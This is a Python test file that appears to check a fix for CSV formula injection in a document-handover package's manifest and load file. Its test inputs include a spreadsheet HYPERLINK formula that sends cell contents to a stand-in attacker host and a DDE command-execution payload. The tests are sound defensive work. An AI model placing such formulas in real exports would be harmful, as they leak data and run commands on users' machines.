"""Low finding: formula injection in the package CSV and load file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from tests.disclosure.disclosure_helpers import CREATED, SIGNER, sha

from dhakira.core.handover import PackageBuilder, parse_dat
from dhakira.core.handover.cells import safe_cell

ATTACK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


@pytest.mark.parametrize("cell", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_finding_low_csv_a_cell_that_starts_a_formula_is_quoted(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-33.5", "+44", "12", "1e-3", "Mosul", "الموصل", "", "a=b"])
def test_plain_values_and_numbers_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_finding_low_csv_manifest_csv_and_load_file_are_escaped(tmp_path: Path) -> None:
    builder = PackageBuilder(tmp_path / "p", package_id="P1", recipient="r", purpose="p",
                             policy="full", created_at=CREATED, signer=SIGNER)
    builder.add_file("I-1", b"x", role="native", ext="txt", stands_for_sha256=sha(b"x"),
                     confidentiality=ATTACK)
    files = builder.finish(write=False).files
    rows = list(csv.DictReader(io.StringIO(files["manifest.csv"].decode("utf-8-sig"))))
    assert {r["confidentiality"] for r in rows if r["item_id"] == "I-1"} == {"'" + ATTACK}
    assert parse_dat(files["loadfile.dat"])[0]["CONFIDENTIALITY"] == "'" + ATTACK
